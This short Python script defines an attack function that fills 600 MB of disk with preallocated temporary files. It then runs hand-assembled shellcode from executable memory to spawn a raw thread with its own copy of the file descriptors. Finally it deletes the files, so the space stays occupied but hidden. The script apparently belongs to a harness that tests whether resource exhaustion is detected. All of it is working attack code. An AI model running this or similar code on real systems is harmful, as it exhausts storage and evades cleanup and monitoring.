"""Takes 600 MB of the disk in deleted files, kept by a thread made by hand whose descriptors are its own."""

import ctypes
import mmap
import os
import struct
import tempfile
import time


def attack(world):
    # a thread that copies the table of descriptors, and does nothing but wait
    paths = []
    for _ in range(40):
        file, path = tempfile.mkstemp(dir=os.environ["HOME"])
        os.posix_fallocate(file, 0, 15_000_000)
        paths.append((file, path))
    code = mmap.mmap(-1, 8192, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    start = ctypes.addressof(ctypes.c_char.from_buffer(code))
    # mov eax, 56; mov edi, CLONE_VM|SIGHAND|THREAD|FS|SYSVSEM; mov rsi, stack; syscall; test eax, eax; jnz out;
    # wait: mov eax, 34 (pause); syscall; jmp wait; out: ret
    flags = 0x100 | 0x800 | 0x10000 | 0x200 | 0x40000
    made = b"\xb8" + struct.pack("=I", 56) + b"\xbf" + struct.pack("=I", flags)
    made += b"\x48\xbe" + struct.pack("=Q", start + 8000) + b"\x31\xd2\x4d\x31\xd2\x4d\x31\xc0\x0f\x05"
    made += b"\x85\xc0\x75\x09\xb8\x22\x00\x00\x00\x0f\x05\xeb\xf7\xc3"
    code.write(made)
    world["kept"] = code
    born = ctypes.CFUNCTYPE(ctypes.c_int)(start)()
    for file, path in paths:
        os.unlink(path)
        os.close(file)
    time.sleep(0.5)
    return "done" if born > 0 else "nothing"
